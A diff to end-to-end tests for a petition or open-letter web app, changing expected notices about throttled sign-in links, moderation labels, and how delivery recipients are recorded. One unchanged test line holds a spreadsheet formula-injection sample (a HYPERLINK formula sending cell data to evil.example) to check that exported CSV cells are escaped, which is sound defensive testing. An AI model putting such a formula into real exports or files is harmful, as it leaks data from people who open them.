@@ -118,10 +118,10 @@ describe('a stranger who keeps asking for a staff member’s sign-in link', () =
     expect(mailsTo(target).length - before).toBeLessThanOrEqual(5 + 2);
     const first = await signInAs(server, smtp, target);
     expect(query<{ n: number }>(server.databasePath, "select count(*) as n from audit_log where staff = ? and action = 'sign-in-throttled'", target)[0]!.n).toBe(1);
-    expect(textOf((await getAs(server, first, '/admin/')).text, '[role="alert"]')).toContain('refused as too many, once');
+    expect(textOf((await getAs(server, first, '/admin/')).text, '[role="alert"]')).toContain('1 request for a sign-in link to your address was refused because too many came at once');
     // The notice speaks of what happened between the sign-in before this one and this one.
     const second = await signInAs(server, smtp, target);
-    expect(textOf((await getAs(server, second, '/admin/')).text, 'main')).not.toContain('refused as too many');
+    expect(textOf((await getAs(server, second, '/admin/')).text, 'main')).not.toContain('refused because too many');
   });
 });
 
@@ -195,8 +195,8 @@ describe('publishing and moderation', () => {
   it('changes what the public sees: approve, hide, restore and reject, one at a time or in bulk', async () => {
     const waiting = [idOf('freemailfront@gmail.com'), idOf('press@elsewhere.kz')];
     const queue = await getAs(server, cookie, `/admin/letters/${letterSlug}/?status=verified`);
-    expect(queue.text).toContain('free-mail address');
-    expect(queue.text).toContain('address not at the website’s domain');
+    expect(queue.text).toContain('Address at a mail provider');
+    expect(queue.text).toContain('Address not at the website’s domain');
 
     await postAs(server, cookie, `/admin/letters/${letterSlug}/?_action=moderate`, { letter: letterSlug, ids: waiting.map(String), decision: 'approve' });
     expect(await publicList()).toContain('Free Mail Front');
@@ -292,7 +292,8 @@ describe('delivering the letter', () => {
       await signAndConfirm(server, smtp, signUp({ organization, email: `office@${domain}`, website: domain }));
     }
     const listed = query<{ email: string }>(server.databasePath, "select email from signatures where status = 'published'").map((row) => row.email);
-    await postAs(server, cookie, `/admin/letters/${letterSlug}/deliver/?_action=deliverLetter`, { letter: letterSlug, deliveredOn: '2026-11-02', recipients: 'The Presidential Administration', note: 'handed over at the reception' });
+    // The letter's first recipient, picked by its place in the letter's own list.
+    await postAs(server, cookie, `/admin/letters/${letterSlug}/deliver/?_action=deliverLetter`, { letter: letterSlug, deliveredOn: '2026-11-02', recipients: '0', backlog: 'without', note: 'handed over at the reception' });
 
     const letterPage = (await (await server.fetch(`/letters/${letterSlug}/`)).text());
     const shown = textOf(letterPage, '.delivery .fingerprint');
@@ -302,14 +303,14 @@ describe('delivering the letter', () => {
     // The frozen list escapes a cell that starts like a formula, line break and all (see "exports").
     const frozen = parseCsv(delivered, { bom: true, columns: true }) as Record<string, string>[];
     expect(frozen.find((row) => row.organization?.includes('HYPERLINK'))?.organization).toBe('\'=HYPERLINK("https://evil.example/?"&A2,\n"Open")');
-    expect(textOf(letterPage, '.delivery')).toContain('The Presidential Administration');
+    expect(textOf(letterPage, '.delivery')).toContain('The President of the Republic of Kazakhstan, Kassym-Jomart Tokayev');
     expect(textOf(letterPage, '.letter-status')).toBe('Delivered to the recipients on 2 November 2026');
     expect(letterPage).not.toContain('class="sign-form"');
 
     for (const email of listed) await smtp.waitFor((mail) => mail.to.includes(email) && /Delivered/.test(mail.subject));
-    const again = await postAs(server, cookie, `/admin/letters/${letterSlug}/deliver/?_action=deliverLetter`, { letter: letterSlug, deliveredOn: '2026-11-03', recipients: 'Someone else' });
+    const again = await postAs(server, cookie, `/admin/letters/${letterSlug}/deliver/?_action=deliverLetter`, { letter: letterSlug, deliveredOn: '2026-11-03', recipients: '1', backlog: 'without' });
     expect(again.status).toBe(303);
-    expect(query(server.databasePath, 'select recipients from letter_deliveries')).toEqual([{ recipients: 'The Presidential Administration' }]);
+    expect(query(server.databasePath, 'select recipients from letter_deliveries')).toEqual([{ recipients: '[0]' }]);
   });
 
   it('lets a signer who lists anonymously or withdraws afterwards leave the public copy, which still checks', async () => {
